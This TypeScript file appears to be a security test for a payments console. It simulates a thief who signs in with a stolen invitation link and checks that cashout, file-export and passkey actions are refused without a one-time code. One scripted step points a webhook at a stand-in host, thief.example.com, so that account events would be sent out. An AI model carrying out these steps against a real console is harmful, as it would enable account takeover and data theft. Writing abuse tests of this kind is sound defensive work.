// Simulates somebody who steals the link of an invitation to the console, signs in with it, and tries to act without a
// one-time code.

import type { Callers, Party, Place } from './callers.ts';
import type { Stage } from './workload.ts';
import { consoleOrigin } from './world.ts';

const ours = { origin: consoleOrigin, 'sec-fetch-site': 'same-origin' };

export async function stealInvitation(stage: Stage, party: Party): Promise<void> {
  const { world, callers } = stage;
  const { dice, mirror } = world;
  if (!dice.chance(0.4)) return;
  const [place] = party.accounts as [Place, ...Place[]];
  const account = `${place.branch}/${place.number}`;
  const code = await invite(stage, party, account);
  const session = code && (await join(callers, party, code, dice.hex(8)));
  if (!session) return;
  party.secrets.push(code, session.split('=')[1] ?? '');
  await stage.rest(1_000, 30_000);
  const open = stage.unapproved.filter((one) => one.party === party).map(({ id }) => id);
  const acts: [string, string][] = [
    ...open.slice(-3).map((id): [string, string] => ['/console/reject', `cashout=${id}&reason=stolen`]),
    ...open.slice(-1).map((id): [string, string] => ['/console/confirm', `cashout=${id}`]),
    [`/console/webhooks/${account}`, 'url=https%3A%2F%2Fthief.example.com%2F&type_webhook=ALL'],
    [`/console/files/${account}`, 'month=2027-02&format=csv'],
    ['/console/passkeys/begin', 'name=mine&code=000000'],
  ];
  for (const [path, form] of acts) {
    const answer = await callers.visit(`${party.name} thief`, path, { ...ours, cookie: session, form });
    // 429: the person's limit of requests. A clock may have jumped, so that the session has ended.
    const isOver = String(answer?.headers?.location).startsWith('/console/sign-in');
    if (answer && !isOver && ![403, 429].includes(answer.statusCode ?? 0))
      mirror.fail('I63', `${path} answers ${answer.statusCode} to somebody who has only an invitation`);
  }
}

/** Opens a person with every right, by an invitation. @returns the code of the link */
async function invite({ world }: Stage, party: Party, account: string): Promise<string | undefined> {
  const event = {
    ...{ action: 'client open', by: 'operator', company: party.companyId, audience: 'console' },
    ...{ name: `${party.name} person`, permissions: ['CREATE', 'APPROVE', 'REFUND', 'WEBHOOK'] },
    accounts: [account],
  };
  const invoked = await world.lambda.invoke('administer', event);
  if (invoked.kind !== 'answered') return undefined;
  const { invitation, mfa_secret } = invoked.result as { invitation?: string; mfa_secret?: string };
  if (mfa_secret) party.secrets.push(mfa_secret);
  return invitation?.split('/').at(-1);
}

/** Accepts the invitation. @returns the cookie of the session */
async function join(
  callers: Callers,
  { name }: Party,
  code: string,
  person: string,
): Promise<string | undefined> {
  const who = `${name} thief`;
  const begun = await callers.visit(who, `/console/sign-in/begin?invitation=${code}`, ours);
  const state = new URL(String(begun?.headers?.location ?? consoleOrigin)).searchParams.get('state');
  const cookie = cookieIn(begun?.cookies);
  if (!state || !cookie) return undefined;
  const to = `/console/signed-in?state=${state}&code=${person}`;
  const joined = await callers.visit(who, to, { ...ours, cookie });
  const session = joined?.cookies?.find((one) => one.startsWith('__Host-session='));
  return session && cookieIn([session]);
}

const cookieIn = (cookies: readonly string[] = []) =>
  cookies.map((one) => one.split(';')[0]).join('; ') || undefined;
